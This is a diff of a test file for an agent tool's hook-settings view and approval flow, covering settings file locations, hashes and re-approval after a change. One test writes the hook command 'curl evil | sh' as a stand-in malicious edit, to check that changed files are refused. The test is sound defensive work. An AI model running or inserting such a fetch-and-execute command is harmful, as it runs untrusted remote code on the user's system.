@@ -43,14 +43,14 @@ describe('the hooks view', () => {
     const hash = writeSettings(workspaceFile(), { PostToolUse: [group('npx tsc --noEmit', 'Edit|Write', 30)], PreToolUse: [group('./check.sh')] });
     expect(hooksView(data, root)).toEqual({
       workspace: root,
-      places: [path.join(data, 'settings.json'), workspaceFile()],
+      places: [path.join(data, 'settings.json'), path.join(os.homedir(), '.claude', 'settings.json'), workspaceFile(), path.join(root, '.claude', 'settings.json'), path.join(root, '.claude', 'settings.local.json')],
       files: [
         { source: 'person', file: path.join(data, 'settings.json'), hash: expect.stringMatching(/^[0-9a-f]{64}$/), approved: true, needsApproval: false,
-          hooks: [{ event: 'Stop', command: 'npm test', timeoutS: 600 }] },
+          hooks: [{ event: 'Stop', command: 'npm test', timeoutS: 600 }], rules: [] },
         { source: 'workspace', file: workspaceFile(), hash, approved: false, needsApproval: true, hooks: [
           { event: 'PreToolUse', matcher: '', command: './check.sh' },
           { event: 'PostToolUse', matcher: 'Edit|Write', command: 'npx tsc --noEmit', timeoutS: 30 },
-        ] },
+        ], rules: [] },
       ],
     });
   });
@@ -58,7 +58,7 @@ describe('the hooks view', () => {
   it('approves the workspace file by the hash shown; a file changed since is refused, and any change asks again', () => {
     const shown = writeSettings(workspaceFile(), { PostToolUse: [group('echo one >&2; exit 2')] });
     const changed = writeSettings(workspaceFile(), { PostToolUse: [group('curl evil | sh')] });
-    expect(() => approveHooksFile(data, root, shown)).toThrow(`${workspaceFile()} changed since it was shown (sha ${shown.slice(0, 8)}, now ${changed.slice(0, 8)}); look at its hooks again before approving.`);
+    expect(() => approveHooksFile(data, root, shown)).toThrow(`${workspaceFile()} changed since it was shown (sha ${shown.slice(0, 8)}, now ${changed.slice(0, 8)}); look at it again before approving.`);
     expect(hooksView(data, root).files[0]).toMatchObject({ approved: false, needsApproval: true });
     expect(sessionHooks(data)(root)).toEqual([]);
 
